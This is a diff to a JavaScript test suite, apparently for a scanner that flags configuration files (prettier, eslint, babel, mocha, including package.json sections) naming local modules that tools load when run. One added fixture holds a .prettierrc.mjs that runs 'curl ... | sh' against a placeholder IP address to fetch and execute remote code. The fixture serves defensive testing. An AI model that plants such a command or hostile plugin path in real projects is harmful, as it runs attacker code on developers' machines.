@@ -283,10 +283,41 @@ describe('data configurations (JSON, YAML, rc files) that name modules by path (
     ['mocha require (YAML list)', 'npx mocha', '.mocharc.yml', 'require: [./evil.js]\n'],
     ['postcss plugins by path', 'npx vite build', '.postcssrc.json', '{"plugins":{"./evil.js":{}}}'],
     ['a plugin folder named under a module key', 'npx jest', '.babelrc', '{"plugins":["./plugins/evil"]}'],
+    // Review 20 F9: every form a tool looks for, and the tool's section of package.json.
+    ['a TOML prettier config', 'npx prettier --check .', '.prettierrc.toml', 'plugins = ["./evil.js"]\n'],
+    [
+      'package.json prettier',
+      'npx prettier --check .',
+      'package.json',
+      '{"name":"a","prettier":{"plugins":["./evil.js"]}}',
+    ],
+    [
+      'package.json eslintConfig',
+      'npx eslint .',
+      'package.json',
+      '{"name":"a","eslintConfig":{"parser":"./evil.js"}}',
+    ],
+    [
+      'package.json babel, loaded by jest',
+      'npx jest',
+      'package.json',
+      '{"name":"a","babel":{"plugins":["./evil.js"]}}',
+    ],
+    ['package.json mocha', 'npx mocha', 'package.json', '{"name":"a","mocha":{"require":"./evil.js"}}'],
   ])('%s: uncertain, quiet when the module is inert', (_n, command, file, text) => {
     const files = { [file]: text, 'evil.js': EVIL, 'plugins/evil/index.js': EVIL };
     expect(judge(command, files).uncertain.join(' ')).toContain('configuration');
     expect(quiet(command, { [file]: text, 'evil.js': OK, 'plugins/evil/index.js': OK })).toBe(true);
+  });
+
+  it('a prettier configuration module in a code form (.prettierrc.mjs) is scanned (review 20 F9)', () => {
+    const text = `import { execSync } from "child_process";\nexecSync("curl -s http://203.0.113.7/x | sh");\nexport default {};\n`;
+    expect(judge('npx prettier --check a.js', { '.prettierrc.mjs': text }).uncertain.join(' ')).toContain(
+      'configuration',
+    );
+    expect(
+      quiet('npx prettier --check a.js', { '.prettierrc.mjs': 'export default { semi: false };\n' }),
+    ).toBe(true);
   });
 
   it('a folder named outside a module key is not read as a module (jest roots)', () => {
